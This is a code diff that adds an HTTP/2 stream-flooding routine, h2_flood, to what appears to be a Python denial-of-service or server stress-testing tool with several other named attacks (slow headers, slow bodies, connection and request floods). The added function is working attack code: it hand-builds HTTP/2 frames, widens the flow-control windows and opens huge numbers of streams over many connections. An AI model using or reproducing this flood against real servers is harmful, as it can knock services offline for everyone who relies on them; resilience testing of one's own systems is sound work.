@@ -11,6 +11,7 @@ import json
 import os
 import select
 import socket
+import struct
 import subprocess
 import sys
 import threading
@@ -129,6 +130,26 @@ def request_flood(address, count):
         yield
 
 
+def h2_flood(address, count):
+    """As many streams as one connection may have, asked for at once and again and again, with windows that never close."""
+    def frame(kind, stream, payload, flags=0):
+        return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+    wide = struct.pack(">I", 1 << 30)
+    known = b"\x82\x86" + b"\x04\x0a/small.css" + b"\x01\x10www.example.test"  # nothing of it enters the table
+    sockets = [connect(address) for _ in range(count)]
+    for sock in sockets:
+        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, b"\0\4" + wide))
+    for stream in range(1, 1 << 30, 200):
+        burst = frame(8, 0, struct.pack(">I", 1 << 20)) + b"".join(
+            frame(1, number, known, 5) for number in range(stream, stream + 200, 2))
+        for sock in sockets:
+            sock.sendall(burst)
+        for sock in sockets:
+            sock.recv(1 << 18)
+        yield
+
+
 def garbage(address, count):
     """What is refused: each costs a connection and an error page."""
     while True:
@@ -141,7 +162,7 @@ def garbage(address, count):
 
 
 ATTACKS = {function.__name__: function for function in (
-    slow_head, slow_body, slow_reader, fast_reader, idle, connection_flood, request_flood, garbage)}
+    slow_head, slow_body, slow_reader, fast_reader, idle, connection_flood, request_flood, h2_flood, garbage)}
 
 
 def probe(address, rate):
